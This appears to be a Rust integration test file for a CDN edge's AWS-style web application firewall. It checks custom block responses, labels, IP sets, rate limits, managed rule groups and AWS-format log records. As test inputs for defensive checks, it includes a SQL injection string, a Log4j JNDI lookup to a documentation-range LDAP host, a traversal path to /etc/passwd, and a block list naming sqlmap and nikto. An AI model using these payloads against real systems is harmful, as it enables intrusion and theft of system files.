//! The WAF through real requests: an AWS-format web ACL (with an IP set and a regex pattern
//! set from `[waf]`) blocks with custom responses, counts with labels and inserted headers,
//! matches later rules on earlier labels, inspects bodies without losing them, limits rates,
//! and writes AWS WAF log records and metrics.

mod support;

use std::time::Duration;

use bytes::Bytes;
use http_body_util::Full;
use support::cache_ops::{get, metric};
use support::config::{distribution_head, origin_table};
use support::session::admin;
use support::{TestEdge, TestOrigin, h1, request};

const ACL: &str = r#"{
  "WebACL": {
    "Name": "site-acl",
    "Id": "11111111-2222-3333-4444-555555555555",
    "ARN": "arn:aws:wafv2:us-east-1:111122223333:global/webacl/site-acl/11111111-2222-3333-4444-555555555555",
    "DefaultAction": { "Allow": {} },
    "Rules": [
      {
        "Name": "block-scanners",
        "Priority": 1,
        "Statement": {
          "RegexPatternSetReferenceStatement": {
            "ARN": "arn:aws:wafv2:us-east-1:111122223333:global/regexpatternset/scanners/aaaa",
            "FieldToMatch": { "SingleHeader": { "Name": "user-agent" } },
            "TextTransformations": [ { "Priority": 0, "Type": "LOWERCASE" } ]
          }
        },
        "Action": { "Block": { "CustomResponse": { "ResponseCode": 429, "CustomResponseBodyKey": "slow-down",
          "ResponseHeaders": [ { "Name": "x-blocked-by", "Value": "site-acl" } ] } } },
        "VisibilityConfig": { "SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "block-scanners" }
      },
      {
        "Name": "count-admin",
        "Priority": 2,
        "Statement": { "ByteMatchStatement": { "SearchString": "/admin", "FieldToMatch": { "UriPath": {} },
          "TextTransformations": [ { "Priority": 0, "Type": "NONE" } ], "PositionalConstraint": "STARTS_WITH" } },
        "Action": { "Count": { "CustomRequestHandling": { "InsertHeaders": [ { "Name": "area", "Value": "admin" } ] } } },
        "RuleLabels": [ { "Name": "area:admin" } ],
        "VisibilityConfig": { "SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "count-admin" }
      },
      {
        "Name": "admin-only-from-office",
        "Priority": 3,
        "Statement": { "AndStatement": { "Statements": [
          { "LabelMatchStatement": { "Scope": "LABEL", "Key": "awswaf:111122223333:webacl:site-acl:area:admin" } },
          { "NotStatement": { "Statement": { "IPSetReferenceStatement": {
            "ARN": "arn:aws:wafv2:us-east-1:111122223333:global/ipset/office/bbbb",
            "IPSetForwardedIPConfig": { "HeaderName": "X-Office-IP", "FallbackBehavior": "NO_MATCH", "Position": "FIRST" } } } } }
        ] } },
        "Action": { "Block": {} },
        "VisibilityConfig": { "SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "admin-only-from-office" }
      },
      {
        "Name": "no-sqli-in-body",
        "Priority": 4,
        "Statement": { "SqliMatchStatement": { "FieldToMatch": { "Body": { "OversizeHandling": "CONTINUE" } },
          "TextTransformations": [ { "Priority": 0, "Type": "URL_DECODE" } ] } },
        "Action": { "Block": {} },
        "VisibilityConfig": { "SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "no-sqli-in-body" }
      },
      {
        "Name": "login-rate",
        "Priority": 5,
        "Statement": { "RateBasedStatement": { "Limit": 10, "EvaluationWindowSec": 60, "AggregateKeyType": "IP",
          "ScopeDownStatement": { "ByteMatchStatement": { "SearchString": "/login", "FieldToMatch": { "UriPath": {} },
            "TextTransformations": [ { "Priority": 0, "Type": "NONE" } ], "PositionalConstraint": "EXACTLY" } } } },
        "Action": { "Block": {} },
        "VisibilityConfig": { "SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "login-rate" }
      }
    ],
    "CustomResponseBodies": { "slow-down": { "ContentType": "TEXT_PLAIN", "Content": "scanners are not welcome" } },
    "VisibilityConfig": { "SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "site-acl" }
  },
  "LockToken": "abc"
}"#;

const SCANNERS: &str = r#"{"RegexPatternSet": {"Name": "scanners", "Id": "aaaa",
  "ARN": "arn:aws:wafv2:us-east-1:111122223333:global/regexpatternset/scanners/aaaa",
  "RegularExpressionList": [{"RegexString": "sqlmap"}, {"RegexString": "nikto"}]}, "LockToken": "x"}"#;

const OFFICE: &str = r#"{"IPSet": {"Name": "office", "Id": "bbbb",
  "ARN": "arn:aws:wafv2:us-east-1:111122223333:global/ipset/office/bbbb",
  "IPAddressVersion": "IPV4", "Addresses": ["203.0.113.0/24"]}, "LockToken": "x"}"#;

async fn edge(origin: &TestOrigin) -> (TestEdge, std::path::PathBuf) {
    let dir = tempfile::tempdir().expect("temp dir").keep();
    for (name, text) in [
        ("acl.json", ACL),
        ("scanners.json", SCANNERS),
        ("office.json", OFFICE),
    ] {
        std::fs::write(dir.join(name), text).expect("write");
    }
    let log = dir.join("waf.log");
    let d = dir.display();
    let tables = format!(
        "[waf]\nip_sets = [\"{d}/office.json\"]\nregex_pattern_sets = [\"{d}/scanners.json\"]\nlog = \"{}\"\n{}web_acl = \"{d}/acl.json\"\n{}",
        log.display(),
        distribution_head(
            "site",
            r#""site.test""#,
            "o1",
            r#", allowed_methods = ["GET", "HEAD", "OPTIONS", "PUT", "POST", "PATCH", "DELETE"]"#
        ),
        origin_table("o1", origin.addr, ""),
    );
    (TestEdge::start(&tables).await, log)
}

async fn send(
    edge: &TestEdge,
    method: &str,
    path: &str,
    headers: &[(&str, &str)],
    body: &str,
) -> support::Reply {
    let mut builder = request(method, "site.test", path);
    for (name, value) in headers {
        builder = builder.header(*name, *value);
    }
    let request = builder
        .body(Full::new(Bytes::from(body.to_owned())))
        .expect("request");
    h1(edge.http(), request).await
}

#[tokio::test]
async fn a_web_acl_blocks_counts_labels_and_inserts_headers() {
    let origin = TestOrigin::hello().await;
    let (edge, log) = edge(&origin).await;

    let reply = send(
        &edge,
        "GET",
        "/",
        &[("user-agent", "Mozilla/5.0 SQLMap/1.7")],
        "",
    )
    .await;
    assert_eq!(reply.status, 429);
    assert_eq!(reply.text(), "scanners are not welcome");
    assert_eq!(reply.header("x-blocked-by"), Some("site-acl"));
    assert_eq!(origin.count(), 0);

    let reply = send(&edge, "GET", "/admin/users", &[], "").await;
    assert_eq!(
        reply.status, 403,
        "a later rule matches the label an earlier Count rule added"
    );
    let reply = send(
        &edge,
        "GET",
        "/admin/users",
        &[("x-office-ip", "203.0.113.9")],
        "",
    )
    .await;
    assert_eq!(reply.status, 200);
    let seen = origin.last();
    assert_eq!(
        seen.header("x-amzn-waf-area"),
        Some("admin"),
        "the Count rule's header reaches the origin"
    );

    let attack = "name=x&id=1' OR '1'='1' --";
    let reply = send(
        &edge,
        "POST",
        "/search",
        &[("content-type", "application/x-www-form-urlencoded")],
        attack,
    )
    .await;
    assert_eq!(reply.status, 403);
    let benign = "name=O'Brien&comment=hello there";
    let reply = send(
        &edge,
        "POST",
        "/search",
        &[("content-type", "application/x-www-form-urlencoded")],
        benign,
    )
    .await;
    assert_eq!(reply.status, 200);
    assert_eq!(
        &origin.last().body[..],
        benign.as_bytes(),
        "the inspected body reaches the origin whole"
    );

    // The WAF log has AWS's fields, one JSON record per request.
    let mut records = String::new();
    for _ in 0..200 {
        records = std::fs::read_to_string(&log).unwrap_or_default();
        if records.lines().count() >= 5 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert_eq!(
        records.lines().count(),
        5,
        "one WAF log record per request: {records}"
    );
    let first: serde_json::Value =
        serde_json::from_str(records.lines().next().expect("a line")).expect("JSON");
    assert_eq!(first["terminatingRuleId"], "block-scanners");
    assert_eq!(first["action"], "BLOCK");
    assert_eq!(first["responseCodeSent"], 429);
    assert_eq!(first["httpRequest"]["uri"], "/");
    let admin_line: serde_json::Value =
        serde_json::from_str(records.lines().nth(2).expect("third")).expect("JSON");
    assert_eq!(admin_line["action"], "ALLOW");
    assert_eq!(
        admin_line["nonTerminatingMatchingRules"][0]["ruleId"],
        "count-admin"
    );
    assert_eq!(
        admin_line["labels"][0]["name"],
        "awswaf:111122223333:webacl:site-acl:area:admin"
    );

    let metrics = admin(edge.edge.admin_address(), "GET", "/metrics")
        .await
        .text();
    assert_eq!(
        metric(
            &metrics,
            r#"verge_waf_requests_total{web_acl="site-acl",action="BLOCK"}"#
        ),
        Some(3.0),
        "{metrics}"
    );
    assert_eq!(
        metric(
            &metrics,
            r#"verge_waf_rule_matches_total{web_acl="site-acl",rule="count-admin",action="COUNT"}"#
        ),
        Some(2.0)
    );
}

#[tokio::test]
async fn a_rate_based_rule_blocks_a_client_over_its_limit() {
    let origin = TestOrigin::hello().await;
    let (edge, _) = edge(&origin).await;
    let mut statuses = Vec::new();
    for _ in 0..14 {
        statuses.push(h1(edge.http(), get("site.test", "/login")).await.status);
    }
    assert!(statuses[..10].iter().all(|s| *s == 200), "{statuses:?}");
    assert!(
        statuses[11..].iter().all(|s| *s == 403),
        "over the limit within a second: {statuses:?}"
    );
    assert_eq!(
        h1(edge.http(), get("site.test", "/other")).await.status,
        200,
        "the scope-down limits it to /login"
    );
}

#[tokio::test]
async fn a_broken_web_acl_is_refused_with_its_json_path() {
    let origin = TestOrigin::hello().await;
    let (edge, _) = edge(&origin).await;
    let acl_path = std::fs::read_to_string(&edge.config_path)
        .expect("config")
        .lines()
        .find_map(|l| {
            l.strip_prefix("web_acl = ")
                .map(|p| p.trim_matches('"').to_owned())
        })
        .expect("web_acl line");
    std::fs::write(&acl_path, ACL.replace("\"Priority\": 2", "\"Priority\": 1")).expect("write");
    let error = edge.edge.reload().expect_err("duplicate priority refused");
    assert!(error.to_string().contains("Priority"), "{error}");
    let reply = h1(edge.http(), get("site.test", "/")).await;
    assert_eq!(reply.status, 200, "the running ACL keeps serving");
}

const MANAGED_ACL: &str = r#"{"Name": "managed-acl", "DefaultAction": {"Allow": {}},
  "ARN": "arn:aws:wafv2:us-east-1:111122223333:global/webacl/managed-acl/cccc",
  "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "managed-acl"},
  "Rules": [
    {"Name": "AWS-AWSManagedRulesAmazonIpReputationList", "Priority": 0, "OverrideAction": {"None": {}},
     "Statement": {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": "AWSManagedRulesAmazonIpReputationList"}},
     "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "ip-reputation"}},
    {"Name": "AWS-AWSManagedRulesKnownBadInputsRuleSet", "Priority": 1, "OverrideAction": {"None": {}},
     "Statement": {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": "AWSManagedRulesKnownBadInputsRuleSet", "Version": "Version_1.20"}},
     "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "known-bad-inputs"}},
    {"Name": "AWS-AWSManagedRulesCommonRuleSet", "Priority": 2, "OverrideAction": {"None": {}},
     "Statement": {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": "AWSManagedRulesCommonRuleSet",
       "RuleActionOverrides": [{"Name": "NoUserAgent_HEADER", "ActionToUse": {"Count": {}}}]}},
     "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "common"}}
  ]}"#;

#[tokio::test]
async fn managed_rule_groups_block_attacks_and_ip_feeds_refresh_on_reload() {
    let origin = TestOrigin::hello().await;
    let dir = tempfile::tempdir().expect("temp dir").keep();
    std::fs::write(dir.join("acl.json"), MANAGED_ACL).expect("write");
    let feed = dir.join("reputation.txt");
    std::fs::write(&feed, "# known bad\n192.0.2.0/24\n").expect("write");
    let log = dir.join("waf.log");
    let tables = format!(
        "[waf]\nlog = \"{}\"\nip_feeds = {{ reputation = \"{}\" }}\n{}web_acl = \"{}\"\n{}",
        log.display(),
        feed.display(),
        distribution_head("site", r#""site.test""#, "o1", ""),
        dir.join("acl.json").display(),
        origin_table("o1", origin.addr, ""),
    );
    let edge = TestEdge::start(&tables).await;

    let browser = [("user-agent", "Mozilla/5.0 (X11; Linux x86_64)")];
    assert_eq!(
        send(&edge, "GET", "/products?page=2", &browser, "")
            .await
            .status,
        200
    );
    let log4j = [
        ("user-agent", "Mozilla/5.0"),
        ("x-api-version", "${jndi:ldap://203.0.113.9/a}"),
    ];
    assert_eq!(
        send(&edge, "GET", "/", &log4j, "").await.status,
        403,
        "Log4j JNDI in a header"
    );
    let lfi = [("user-agent", "Mozilla/5.0")];
    assert_eq!(
        send(
            &edge,
            "GET",
            "/download?file=../../../../etc/passwd",
            &lfi,
            ""
        )
        .await
        .status,
        403
    );
    let reply = send(&edge, "GET", "/", &[], "").await;
    assert_eq!(
        reply.status, 200,
        "NoUserAgent_HEADER is overridden to Count"
    );

    let records = {
        let mut text = String::new();
        for _ in 0..200 {
            text = std::fs::read_to_string(&log).unwrap_or_default();
            if text.lines().count() >= 4 {
                break;
            }
            tokio::time::sleep(Duration::from_millis(25)).await;
        }
        text.lines()
            .map(|l| serde_json::from_str::<serde_json::Value>(l).expect("JSON"))
            .collect::<Vec<_>>()
    };
    assert_eq!(records.len(), 4, "{records:?}");
    assert_eq!(
        records[1]["terminatingRuleId"],
        "AWS-AWSManagedRulesKnownBadInputsRuleSet"
    );
    assert_eq!(records[1]["terminatingRuleType"], "GROUP");
    let group = &records[1]["ruleGroupList"]
        .as_array()
        .expect("groups")
        .iter()
        .find(|g| g["terminatingRule"].is_object())
        .expect("the group that decided")
        .clone();
    assert_eq!(group["terminatingRule"]["ruleId"], "Log4JRCE_HEADER");
    let labels: Vec<&str> = records[1]["labels"]
        .as_array()
        .expect("labels")
        .iter()
        .filter_map(|l| l["name"].as_str())
        .collect();
    assert!(
        labels.contains(&"awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header"),
        "{labels:?}"
    );
    let counted = records[3].to_string();
    assert!(counted.contains("NoUserAgent_HEADER"), "{counted}");

    // The feed now lists the test's own address: a reload reads it, no restart.
    std::fs::write(&feed, "192.0.2.0/24\n127.0.0.0/8\n").expect("write");
    edge.edge.reload().expect("reload");
    assert_eq!(
        send(&edge, "GET", "/products", &browser, "").await.status,
        403,
        "the refreshed feed blocks"
    );

    // A feed with a bad line is refused with its line; the running ACL keeps serving.
    std::fs::write(&feed, "192.0.2.0/24\nnot-an-address\n").expect("write");
    let error = edge.edge.reload().expect_err("bad feed refused");
    assert!(error.to_string().contains("line 2"), "{error}");
    assert_eq!(
        send(&edge, "GET", "/products", &browser, "").await.status,
        403
    );
}
